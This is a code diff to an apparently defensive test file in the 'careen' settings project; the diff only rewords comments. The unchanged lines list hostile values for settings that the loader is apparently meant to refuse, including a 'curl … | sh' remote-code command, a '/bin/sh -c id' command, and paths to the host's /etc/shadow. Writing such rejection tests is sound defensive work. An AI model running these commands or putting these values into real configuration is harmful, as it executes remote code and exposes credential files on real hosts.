@@ -15,9 +15,9 @@ from careen.settings.sources import BadSettings, resolve
 from careen.settings.tree import DEFAULTS, SETTINGS, Settings, flag
 
 NAME = "careen/careen"
-# What each would do if it were taken.
+# The effect of each setting if it were accepted.
 HARM: dict[str, str] = {
-    "reboot_probes": "zypper",  # runs what the host has under that name
+    "reboot_probes": "zypper",  # runs the host's program of that name
     "reboot_proof": "soft-reboots",
     "reboot_sentinel_command": "sh -c 'curl https://x | sh'",
     "reboot_command": "/bin/sh -c id",
@@ -36,7 +36,7 @@ HARM: dict[str, str] = {
     "scheduler_config": "/proc/1/root/etc/shadow",
     "notify_url_file": "/proc/1/root/etc/shadow",
 }
-# What goes with some of them, so that they contradict nothing.
+# Settings that some of them need in order to be valid.
 BESIDE = {
     "prometheus_password_file": {"prometheus_username": ("x",)},
     "prometheus_client_key_file": {"prometheus_client_certificate_file": ("/x",)},
